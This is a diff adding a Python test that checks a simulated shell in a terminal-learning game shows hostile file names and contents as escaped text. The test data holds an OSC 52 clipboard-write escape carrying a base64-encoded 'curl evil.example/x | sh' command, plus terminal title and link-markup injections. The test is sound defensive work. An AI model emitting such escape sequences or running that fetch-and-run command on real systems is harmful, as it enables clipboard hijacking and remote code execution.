@@ -193,3 +193,18 @@ def test_class_report_shows_markup_and_escapes_in_names_as_text(tmp_path):
     assert raw_controls(proc.stdout + proc.stderr) == []
     assert "2 learner(s)" in proc.stdout
     assert "[link=https://evil.example]\\x1b[2Jclick[/link]" in proc.stdout.replace("\n", "").replace("│", "")
+
+
+def test_world_file_contents_and_names_reach_the_screen_visibly():
+    """A saved world can carry any text in its files: `cat`, `ls` and `explain` show it safely."""
+    world = World.default()
+    home = world.machine.home
+    world.machine.fs.write(f"{home}/motd{TITLE}", f"Welcome{OSC52}\n")
+    shell = Shell(world)
+    for line in ("ls ~", f"cat ~/motd$'{TITLE}'".replace("\x1b", "\\e").replace("\x07", "\\a"), "history"):
+        result = shell.run(line)
+        assert raw_controls(result.text) == [], line
+    assert shell.run("cat ~/motd*").stdout == ["Welcome\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\x07"]
+    shell.run("echo hi > ~/motd*")
+    assert raw_controls(shell.explain().text) == []
+    assert "\\x1b]2;pwned\\x07" in shell.explain().text
